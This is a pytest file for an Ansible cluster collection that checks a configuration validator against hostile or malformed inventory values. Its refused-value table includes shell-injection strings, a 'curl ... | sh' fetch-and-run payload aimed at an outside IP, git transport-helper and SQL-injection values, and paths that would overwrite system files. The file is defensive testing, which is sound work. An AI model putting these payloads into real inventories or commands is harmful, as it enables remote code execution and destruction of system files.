# Copyright (c) 2026, trainstack.cluster developers
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Every variable a role declares in meta/value_formats.yml, given what a careless or hostile inventory gives it.

The cases are per format, written by hand: each string format lists values it must refuse (with the words the refusal
must contain) and values it must accept. Every declared variable is then tried with its format's values (about a
thousand cases, a few seconds), and a new format fails until it has rows. The refusal must name the variable and say
nothing else: one message. Whether a variable is declared with the right format, and the cross-variable rules
(tasks/validate.yml), are the playbook corpus's (tests/unit/playbooks/test_bad_input.py).
"""

from __future__ import annotations

import glob
import os

import pytest
import yaml

from ansible_collections.trainstack.cluster.plugins.filter.validation import conf_value_problems

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))))
NL = "\n"

# Refused by every string format: a value that would end a line of the file or script it reaches.
EVERY_STRING = [("x" + NL, "contains a newline"), ("x\r", "contains a carriage return"), ("x\x00", "contains a NUL byte")]
# format: (refused values with a fragment of the refusal, accepted values). Whole-line checks come from EVERY_STRING.
FORMATS = {
    "word": ([("1.0; id", "contains a space"), ("-rf", "must be "), ("$(id)", "must be "), ("", "must be ")],
             ["2.13.0", "1:4.1.4-3+b1", "cu128", "bookworm"]),
    "url": ([("deb.debian.org/debian", "must be "), ("http://x/a b", "contains a space"), ("ftp2://x", "must be ")],
            ["http://deb.debian.org/debian", "https://download.pytorch.org/whl", "file:///srv/mirror"]),
    "path": ([("relative/dir", "must be an absolute path"), ("/a/../etc", "must not contain '..'"), ("/a/", "normalised"),
              ("/opt/x;id", "metacharacter"), ("/opt/$(id)", "metacharacter"), ("/opt/a b", "contains a space")],
             ["/opt/trainstack", "/usr/share/keyrings/debian-archive-keyring.gpg", "/srv/mirror/openmpi-4.1.4.tar.bz2"]),
    "owned_dir": ([("/", "system directory"), ("/usr", "system directory"), ("/etc/ssh/trainstack", "system directory"),
                   ("var/tmp/x", "must be an absolute path"), ("/var/tmp/`id`", "metacharacter")],
                  ["/opt/trainstack", "/var/tmp/trainstack-build", "/srv/nfs/slurm"]),
    "text": ([], ["--enable-mt", "CFLAGS=-O2 -g", "any one line, with spaces"]),
    "package": ([("--allow-unauthenticated", "must be "), ("vim emacs", "contains a space")],
                ["build-essential", "libnccl2=2.26.2-1+cuda12.8", "g++"]),
    "pip_requirement": ([("--index-url=http://198.51.100.7/simple", "not a pip option"), ("-e.", "not a pip option"),
                         ("numpy --pre", "contains a space")],
                        ["deepspeed==0.16.4", "accelerate[deepspeed]>=1.0,<2"]),
    "file_name": ([("../x", "must be a file name"), ("a/b", "must be a file name"), ("..", "must be a file name")],
                  ["acceptance", "report-2026"]),
    "slurm_word": ([("batch queue", "contains a space"), ("a#b", "'#'")], ["batch", "h100", "2-00:00:00"]),
    # A slurm.conf value: '#' starts a comment, whitespace ends the value unless the whole value is quoted.
    "slurm_value": ([("IDLE #x", "'#'"), ("IDLE CYCLE", "contains a space"), ("", "must not be empty")],
                    ["IDLE,CYCLE", "NONDRAINED_IDLE", '"a b"']),
    "hostlist": ([("gpu[01-", "unbalanced"), ("gpu[4-1]", "reversed range")], ["gpu[01-04],cpu1", "node1"]),
    "secret": ([('"pw', "must not begin with a double quote"), ('pw 1 "x"', "a space and a double quote")],
               ["s3cr3t!pa$$", "correct horse battery staple"]),
    "db_name": ([("slurm'; DROP DATABASE x; --", "contains"), ("a`b", "must be ")], ["slurm_acct_db"]),
    "fingerprint": ([("EB693B30", "must be ")], ["EB693B3035CD5710E231E123A4B469963BF863CC"]),
    "host": ([("ntp 1", "contains a space"), ("-o", "must be a DNS name")], ["ntp.example.org", "10.0.0.1"]),
    "hostname": ([("gpu_01", "must be a DNS name"), ("a b", "contains a space")], ["gpu-01", "gpu-01.cluster.example"]),
    "ip": ([("gpu-01", "must be an IPv4 or IPv6 address")], ["10.0.0.11", "2001:db8::1"]),
    "ifname": ([("eth0 eth1", "contains a space")], ["eth0", "^docker0,lo"]),
    "proxy_url": ([("proxy:3142", "must be "), ("http://p:1;id", "must be ")], ["http://10.0.0.1:3142"]),
    "python_version": ([("three", "must be ")], ["3.9"]),
    "chrony_makestep": ([("1.0", "must be ")], ["1.0 3"]),
    "nccl_conf_file": ([("/etc/nccl/other.txt", "must name an NCCL configuration file"),
                        ("/var/tmp/nccl.conf", "anyone may write to")], ["/etc/nccl.conf"]),
    "xml_file": ([("/etc/nccl/topo", "must name an .xml file"), ("/tmp/topology.xml", "anyone may write to")],
                 ["/etc/nccl/topology.xml"]),
    # A command name or its absolute path (nvcc -ccbin).
    "program": ([("g++ -o /etc/passwd", "contains a space"), ("/usr/bin/../g++", "'..'"), ("-ccbin", "must be "),
                 ("/usr/bin/g++;id", "metacharacter")], ["g++-12", "/usr/bin/g++-12", "clang++"]),
    "bool": ([("yes", "must be true or false")], [True, False]),
    "build_arg": ([("--with-knem=$(curl -s http://198.51.100.7/x|sh)", "metacharacter"), ("CFLAGS=-O2;id", "';'"),
                   ("--prefix=`id`", "'`'"), ("X='a'", "metacharacter")],
                  ["--enable-mt", "CFLAGS=-O2 -g", "--with-cuda-libdir=/usr/local/cuda/lib64/stubs", "CXX=g++-11"]),
    "release": ([("v1.18.1", "must be "), ("1.18", "must be "), ("latest", "must be ")], ["1.18.1", "4.1.4"]),
    "version": ([("newest", "must be "), ("4.2.x", "must be ")], ["4.2.2", "22.05", "5"]),
    "cuda_arch": ([("90 -Xcompiler -fplugin=/tmp/x.so", "contains a space"), ("hopper", "must be ")],
                  ["9.0", "90", "sm_80", "compute_90a", "10.0"]),
    "host_pattern": ([("gpu;id", "must be "), ("a b", "contains a space")], ["slurm_compute", "slurm_compute:&gpu", "all:!login"]),
    "owned_path": ([("/etc/passwd", "would replace a system file"), ("/usr/bin/torchrun", "would replace"),
                    ("/etc/profile.d/launch.sh", "would replace"), ("/etc/t/../shadow", "'..'"), ("t/x", "absolute path")],
                   ["/usr/local/bin/trainstack-torchrun", "/etc/trainstack/pytorch-launch.json",
                    "/usr/local/share/trainstack/pytorch", "/opt/ml/bin/torchrun-site"]),
    "git_url": ([("--upload-pack=id", "must not begin with '-'"), ("ext::sh%20-c%20id", "transport helper"),
                 ("https://x/a b.git", "contains a space"), ("ftp://x/y.git", "must be an https, ssh, git or file URL")],
                ["https://github.com/NVIDIA/nccl-tests.git", "git@git.example.org:hpc/nccl-tests.git",
                 "../shared/mirrors/nccl-tests/nccl-tests.bundle", "file:///srv/mirror/nccl-tests.git"]),
    "controller_path": ([("/srv/cache;rm", "';'"), ("relative/cache", "absolute path"), ("~other/x", "absolute path")],
                        ["~/.cache/trainstack/artifacts", "/var/tmp/trainstack-cache"]),
}
# Extra rows for formats whose value may also be empty.
EMPTY_OK = ""


def _load(path):
    with open(path, encoding="utf-8") as handle:
        return yaml.safe_load(handle)["value_formats"]


DECLARED = {name: fmt for path in sorted(glob.glob(os.path.join(ROOT, "roles", "*", "meta", "value_formats.yml")))
            for name, fmt in _load(path).items()}
STRING_VARIABLES = sorted((name, fmt) for name, fmt in DECLARED.items() if isinstance(fmt, str))
RANGE_VARIABLES = sorted((name, fmt) for name, fmt in DECLARED.items()
                         if isinstance(fmt, dict) and set(fmt) <= {"min", "max"} and fmt)


# {words: [...], format: fmt}: each word is accepted, otherwise the format's rows apply.
# A word or a named format; a word or a range (nhc_gpu_count: auto or a count) is tried in test_validation.py.
WORD_VARIABLES = sorted((name, fmt) for name, fmt in DECLARED.items()
                        if isinstance(fmt, dict) and "words" in fmt and isinstance(fmt["format"], str))


def _base(fmt):
    return fmt[:-len("_or_empty")] if fmt.endswith("_or_empty") else fmt


def _refused_cases():
    for name, fmt in STRING_VARIABLES:
        refused = FORMATS.get(_base(fmt), ([], []))[0] + (EVERY_STRING if _base(fmt) != "bool" else [])
        for index, (value, fragment) in enumerate(refused):
            if fmt.endswith("_or_empty") and value == "":
                continue
            yield pytest.param(name, fmt, value, fragment, id="%s-%d" % (name, index))


def _accepted_cases():
    for name, fmt in STRING_VARIABLES:
        accepted = list(FORMATS.get(_base(fmt), ([], []))[1]) + ([EMPTY_OK] if fmt.endswith("_or_empty") else [])
        for index, value in enumerate(accepted):
            yield pytest.param(name, fmt, value, id="%s-%d" % (name, index))


@pytest.mark.parametrize(("name", "spec"), WORD_VARIABLES, ids=[pair[0] for pair in WORD_VARIABLES])
def test_word_or_format_variables(name, spec):
    refused, accepted = FORMATS[spec["format"]]
    for value in list(spec["words"]) + list(accepted):
        assert conf_value_problems({name: value}, {name: spec}) == [], value
    for value, fragment in refused + EVERY_STRING:
        found = conf_value_problems({name: value}, {name: spec})
        assert len(found) == 1 and found[0].startswith(name + " ") and fragment in found[0], (value, found)
        # null among the words is written as YAML writes it.
        assert found[0].endswith("(or one of: %s)" % ", ".join("null" if word is None else repr(word) for word in spec["words"])), found


def test_every_format_in_use_has_rows():
    used = {_base(pair[1]) for pair in STRING_VARIABLES} | {pair[1]["format"] for pair in WORD_VARIABLES}
    assert sorted(used - set(FORMATS)) == []


def test_the_corpus_covers_every_declared_variable():
    # Every string or range variable is tried below; the other declarations (mappings) are the playbook corpus's.
    assert len(STRING_VARIABLES) + len(RANGE_VARIABLES) >= 100


@pytest.mark.parametrize(("name", "fmt", "value", "fragment"), list(_refused_cases()))
def test_each_variable_refuses_what_its_format_forbids(name, fmt, value, fragment):
    found = conf_value_problems({name: value}, {name: fmt})
    assert len(found) == 1 and found[0].startswith(name + " ") and fragment in found[0], found


@pytest.mark.parametrize(("name", "fmt", "value"), list(_accepted_cases()))
def test_each_variable_accepts_legal_values(name, fmt, value):
    assert conf_value_problems({name: value}, {name: fmt}) == []


@pytest.mark.parametrize(("name", "spec"), RANGE_VARIABLES, ids=[pair[0] for pair in RANGE_VARIABLES])
def test_each_number_refuses_values_out_of_its_range(name, spec):
    if "min" in spec:
        assert conf_value_problems({name: spec["min"] - 1}, {name: spec}) == [
            "%s must be at least %s, got %s" % (name, spec["min"], spec["min"] - 1)]
        assert conf_value_problems({name: spec["min"]}, {name: spec}) == []
    if "max" in spec:
        found = conf_value_problems({name: spec["max"] + 1}, {name: spec})
        assert len(found) == 1 and found[0].startswith(name + " ") and str(spec["max"]) in found[0], found
    found = conf_value_problems({name: "12; id"}, {name: spec})
    assert len(found) == 1 and found[0].startswith(name + " "), found
